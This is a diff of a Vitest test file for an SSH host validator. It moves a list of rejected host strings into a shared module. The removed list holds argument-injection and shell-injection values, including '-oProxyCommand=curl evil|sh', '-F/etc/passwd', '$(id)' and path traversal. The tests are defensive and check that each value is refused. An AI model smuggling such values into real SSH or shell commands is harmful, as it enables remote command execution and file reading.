@@ -2,6 +2,7 @@ import { describe, expect, test } from 'vitest'
 import { BerthError } from '../../../electron/contract/problem.ts'
 import { candidates } from '../../../electron/ssh/connection/addresses.ts'
 import { checkHost, checkPort } from '../../../electron/ssh/connection/ssh-address.ts'
+import { nastyHosts } from '../../hostile/hosts.ts'
 
 const hosts = [
   'ssh4.example.com',
@@ -16,90 +17,25 @@ const hosts = [
   `${'a'.repeat(63)}.example`,
 ]
 
-const nasty: unknown[] = [
-  '-oProxyCommand=id',
-  '-oProxyCommand=curl evil|sh',
-  '--',
-  '-',
-  '-F/etc/passwd',
-  '',
-  ' ',
-  'a b',
-  ' example.com',
-  'example.com ',
-  'example.com\n',
-  'example.com\r\nHost *',
-  'a\tb',
-  'a\0b',
-  'a\u00a0b',
-  '"example.com"',
-  "example.com'",
-  '`id`',
-  '$(id)',
-  '\u0024{HOME}',
-  'a;id',
-  'a|id',
-  'a&id',
-  'a>b',
-  'a\\b',
-  'root@example.com',
-  'user:pass@example.com',
-  'ssh://example.com',
-  'http://example.com/',
-  'example.com:22',
-  '[::1]',
-  'fe80::1%eth0',
-  '%h',
-  'example.com%00',
-  '*',
-  '*.example.com',
-  '?',
-  '~',
-  '../../etc/passwd',
-  '/tmp/socket',
-  'exаmple.com', // with a Cyrillic a
-  'ｅxample.com', // full width
-  'example。com', // ideographic full stop
-  'exam\u200bple.com', // zero width space
-  'exam\u202eple.com', // right to left
-  'bücher.example',
-  '\u001b[31mexample.com',
-  'a..b',
-  '.example.com',
-  'example-.com',
-  '-a.example.com',
-  'a.-b.example.com',
-  'a_b.example.com',
-  '127.1',
-  '2130706433',
-  '0x7f000001',
-  '0x7f.1',
-  '1.2.3.4.5',
-  '256.1.1.1',
-  '::g',
-  `${'a'.repeat(64)}.example`,
-  `${'a.'.repeat(127)}`,
-  'a'.repeat(100_000),
-  undefined,
-  null,
-  42,
-  ['example.com'],
-  { toString: () => 'example.com' },
-]
+/** Neither is what is not even text. */
+const noText: unknown[] = [undefined, null, 42, ['example.com'], { toString: () => 'example.com' }]
 
 describe('a host that the service names', () => {
   test.each(hosts)('%j is taken as it is', host => {
     expect(checkHost(host)).toBe(host)
   })
 
-  test.each(nasty.map(host => [host]))('%j is refused, with the field and without repeating it', host => {
-    const problem = refusal(() => checkHost(host))
-    expect(problem.code).toBe('bad_address')
-    expect(problem.field).toBe('ssh_host')
-    expect(problem.message).toContain('ssh_host')
-    expect(problem.message.length).toBeLessThan(150)
-    if (typeof host === 'string' && host.trim().length > 4) expect(problem.message).not.toContain(host)
-  })
+  test.each([...nastyHosts, ...noText].map(host => [host]))(
+    '%j is refused, with the field and without repeating it',
+    host => {
+      const problem = refusal(() => checkHost(host))
+      expect(problem.code).toBe('bad_address')
+      expect(problem.field).toBe('ssh_host')
+      expect(problem.message).toContain('ssh_host')
+      expect(problem.message.length).toBeLessThan(150)
+      if (typeof host === 'string' && host.trim().length > 4) expect(problem.message).not.toContain(host)
+    },
+  )
 })
 
 describe('a port that the service names', () => {
